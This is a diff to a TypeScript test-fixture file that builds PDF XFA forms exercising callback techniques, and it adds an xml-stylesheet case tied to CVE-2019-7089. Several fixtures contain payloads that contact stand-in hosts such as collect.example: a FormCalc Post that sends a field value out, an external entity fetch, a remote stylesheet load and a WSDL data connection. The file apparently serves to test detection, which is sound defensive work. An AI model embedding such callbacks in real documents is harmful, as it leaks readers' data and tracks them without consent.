@@ -93,6 +93,8 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
     "formcalc-get": () => xfaForm(`<event activity="docReady"><script contentType="application/x-formcalc">name.rawValue = Get("https://track.example/get")</script></event>`),
     "formcalc-post": () => xfaForm(`<event activity="initialize"><script contentType="application/x-formcalc">Post("https://collect.example/post", name.rawValue)</script></event>`),
     "external-entity": () => xfaForm(`<field name="x"><value><text>&leak;</text></value></field>`, `<!DOCTYPE xdp:xdp [ <!ENTITY leak SYSTEM "https://collect.example/entity.txt"> ]>`),
+    // CVE-2019-7089: the XSLT named by the form is fetched as the form is read
+    "xml-stylesheet": () => xfaForm("", `<?xml-stylesheet type="text/xsl" href="https://collect.example/form.xsl"?>`),
     "data-connection": () =>
       xfaForm(
         `<event activity="initialize"><execute connection="lookup" runAt="client" executeType="import"/></event></subform><subform name="conn"><connectionSet xmlns="http://www.xfa.org/schema/xfa-connection-set/2.8/"><wsdlConnection name="lookup" dataDescription="lookup"><wsdlAddress>https://svc.example/lookup?wsdl</wsdlAddress><soapAddress>https://svc.example/lookup</soapAddress><operation input="in" output="out">Lookup</operation></wsdlConnection></connectionSet>`,
